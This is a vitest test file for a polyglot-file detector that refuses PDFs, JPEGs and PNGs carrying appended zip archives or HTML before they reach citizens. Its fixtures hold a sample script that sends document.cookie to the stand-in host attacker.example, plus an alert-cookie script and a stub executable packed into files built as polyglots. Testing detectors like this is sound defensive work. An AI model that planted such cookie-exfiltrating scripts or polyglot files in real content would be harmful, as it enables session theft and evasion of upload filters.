/**
 * Files that are two formats at once. The polyglots are built as their published recipes make
 * them: a zip appended after a PDF's %%EOF or a JPEG's end-of-image marker (readers allow for
 * the bytes before the archive), a zip stored in a PDF object, HTML after the PDF trailer or
 * before its header (PDF readers look for the header in the first 1024 bytes). Real PDFs whose
 * compressed streams hold "PK" signatures or "<" by chance stay accepted.
 */
import { describe, expect, it } from 'vitest';
import { buildJpeg, buildPdf, buildPng, buildXdm, buildZip, pseudoRandomBytes } from '../../../fixtures/builders.js';
import { containsZip } from '../../../src/documents/polyglot.js';
import { hiddenFormat, sniff } from '../../../src/documents/sniff.js';
import { TO_CITIZEN, TO_PROFESSIONAL, checkOne } from './support.js';

const zipOf = () => buildZip([{ name: 'evil.html', content: Buffer.from('<script>alert(document.cookie)</script>') }, { name: 'setup.exe', content: Buffer.from('MZ payload') }]);
const HTML = Buffer.from('<html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>\n');

/** A PDF whose one extra object is a stream holding `payload` as is (no filter), with correct xref offsets. */
function pdfWithStream(payload: Buffer): Buffer {
  // buildPdf's padding stream (object 6) has the payload's length: the payload takes its place.
  const pdf = buildPdf({ paddingBytes: payload.length });
  payload.copy(pdf, pdf.indexOf('stream\n', pdf.indexOf('6 0 obj')) + 'stream\n'.length);
  return pdf;
}

describe('polyglots are found by their structures', () => {
  it('a zip appended to a PDF, and a PDF whose stream holds a whole zip', async () => {
    const appended = Buffer.concat([buildPdf(), await zipOf()]);
    expect(sniff(appended)).toBe('pdf');
    expect(hiddenFormat(appended)).toBe('zip');
    expect(hiddenFormat(pdfWithStream(await zipOf()))).toBe('zip');
  });

  it('zip local headers without their directory (what a scanning reader still extracts)', async () => {
    const zip = await zipOf();
    const localOnly = zip.subarray(0, zip.indexOf(Buffer.from('PK\x01\x02', 'latin1')));
    expect(hiddenFormat(pdfWithStream(localOnly))).toBe('zip');
  });

  it('a zip appended to a JPEG or a PNG', async () => {
    expect(hiddenFormat(Buffer.concat([buildJpeg(), await zipOf()]))).toBe('zip');
    expect(hiddenFormat(Buffer.concat([buildPng(), await zipOf()]))).toBe('zip');
  });

  it('HTML after the PDF trailer, inside a PDF, or in a JPEG', () => {
    expect(hiddenFormat(Buffer.concat([buildPdf(), HTML]))).toBe('html');
    expect(hiddenFormat(pdfWithStream(HTML))).toBe('html');
    expect(hiddenFormat(Buffer.concat([buildJpeg(), HTML]))).toBe('html');
  });

  it('a PDF behind HTML or text (its header within the first 1024 bytes)', () => {
    const behindHtml = Buffer.concat([HTML, buildPdf()]);
    expect(sniff(behindHtml)).toBe('html');
    expect(hiddenFormat(behindHtml)).toBe('pdf');
    const behindText = Buffer.concat([Buffer.from('Compte rendu en pièce jointe\n'), buildPdf()]);
    expect(sniff(behindText)).toBe('txt');
    expect(hiddenFormat(behindText)).toBe('pdf');
  });
});

describe('ordinary files are not polyglots', () => {
  it('real files of each kind', async () => {
    for (const content of [buildPdf(), buildJpeg(), buildPng(), Buffer.from('Résultats normaux. %PDF- est un en-tête.')]) {
      expect(hiddenFormat(content)).toBeUndefined();
    }
    // An XDM is a zip: the zip and XDM checks read it, entry by entry.
    expect(hiddenFormat(await buildXdm())).toBeUndefined();
  });

  it('a PDF whose compressed data holds zip signatures and "<" by chance', () => {
    const noise = pseudoRandomBytes(1024 * 1024, 0x5eed);
    // Signatures in the middle of noise: no directory, no local header whose fields make sense.
    for (const [at, signature] of [[1000, 'PK\x03\x04'], [5000, 'PK\x05\x06'], [9000, 'PK\x01\x02'], [13000, '<scrip']] as const) {
      Buffer.from(signature, 'latin1').copy(noise, at);
    }
    const pdf = pdfWithStream(noise);
    expect(containsZip(pdf)).toBe(false);
    expect(hiddenFormat(pdf)).toBeUndefined();
  });

  it('a PDF with uncompressed XMP metadata (XML, not a web page)', () => {
    const xmp = Buffer.from('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>');
    expect(hiddenFormat(pdfWithStream(xmp))).toBeUndefined();
  });
});

describe('a polyglot never reaches a citizen', () => {
  it('refuses a PDF/ZIP and a PDF/HTML polyglot, saying it is two formats at once', async () => {
    const pdfZip = await checkOne(Buffer.concat([buildPdf(), await zipOf()]), 'resultats.pdf', TO_CITIZEN, 'application/pdf');
    expect(pdfZip.refusal).toMatchObject({ code: 'FORBIDDEN_FORMAT', check: 'ATTACHMENT_FORMAT', attachment: 'resultats.pdf' });
    expect(pdfZip.refusal?.message).toBe(
      'resultats.pdf: the content is PDF and a zip archive at once (sent as "application/pdf"); a file that is two formats at once is refused for a citizen',
    );
    const pdfHtml = await checkOne(Buffer.concat([buildPdf(), HTML]), 'ordonnance.pdf', TO_CITIZEN, 'application/pdf');
    expect(pdfHtml.refusal?.message).toContain('the content is PDF and an HTML page at once');
  });

  it('refuses a JPEG with a zip appended', async () => {
    const { refusal } = await checkOne(Buffer.concat([buildJpeg(), await zipOf()]), 'radio.jpg', TO_CITIZEN, 'image/jpeg');
    expect(refusal?.message).toContain('the content is JPEG image and a zip archive at once');
  });

  it('still gives a real PDF to the citizen, and leaves professionals their files', async () => {
    expect((await checkOne(buildPdf(), 'ordonnance.pdf', TO_CITIZEN, 'application/pdf')).refusal).toBeUndefined();
    expect((await checkOne(Buffer.concat([buildPdf(), HTML]), 'x.pdf', TO_PROFESSIONAL, 'application/pdf')).refusal).toBeUndefined();
  });
});
